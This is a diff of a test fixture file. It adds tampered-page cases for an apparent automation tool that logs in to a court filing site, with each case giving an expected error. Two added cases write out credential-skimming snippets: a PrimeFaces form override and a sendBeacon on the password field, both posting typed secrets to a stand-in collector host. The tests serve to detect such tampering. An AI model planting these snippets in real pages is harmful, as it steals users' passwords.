@@ -145,6 +145,43 @@ CHANGES = {
         "4",
         "link_account submit: nothing was typed; the court's file says http://ecf.ctd.localhost:",
     ),
+    "a script of the login sends what is typed elsewhere": Change(
+        replace_on_page(
+            PACER_LOGIN,
+            "</body>",
+            "<script>PrimeFaces.ab = form => { form.action = 'http://collector.localhost:9/take';"
+            " form.submit(); }</script></body>",
+        ),
+        "2",
+        "pacer_login.log_in: after a secret was typed, the page would have sent what was typed to"
+        " http://collector.localhost:9, which is not the court's; the browser blocked it",
+    ),
+    "a script of the link form copies what is typed elsewhere": Change(
+        replace_on_page(
+            LINK_FORM,
+            'type="password"',
+            'type="password" oninput="navigator.sendBeacon(\'http://collector.localhost:9/\', this.value)"',
+        ),
+        "4",
+        "link_account.submit: after a secret was typed, the page would have sent what was typed to"
+        " http://collector.localhost:9, which is not the court's; the browser blocked it",
+    ),
+    "the link form would send the password in an address": Change(
+        replace_on_page(LINK_FORM, 'method="POST"', 'method="GET"'),
+        "4",
+        "link_account submit: nothing was typed; the form with the password sends it in the address of a"
+        " request (method GET)",
+    ),
+    "the link form would send the password as plain text": Change(
+        replace_on_page(LINK_FORM, "multipart/form-data", "text/plain"),
+        "4",
+        "link_account submit: nothing was typed; the form with the password sends it as text/plain",
+    ),
+    "a field of the link form is too short": Change(
+        replace_on_page(LINK_FORM, 'maxlength="50"', 'maxlength="4"'),
+        "4",
+        'link_account.submit was not done, and nothing was sent: the field "CM/ECF login:" takes at most 4',
+    ),
     "two links with the same words lead to different places": Change(
         replace_on_page(
             WEBSITE_HOME,
@@ -264,6 +301,9 @@ QUICK = {
     "the court alerts its users",
     "what is typed at the login would be sent elsewhere",
     "a button of the link form would send it elsewhere",
+    "a script of the login sends what is typed elsewhere",
+    "a script of the link form copies what is typed elsewhere",
+    "the link form would send the password in an address",
     "two links with the same words lead to different places",
     "the link leads to another host",
     "the court opens another window",
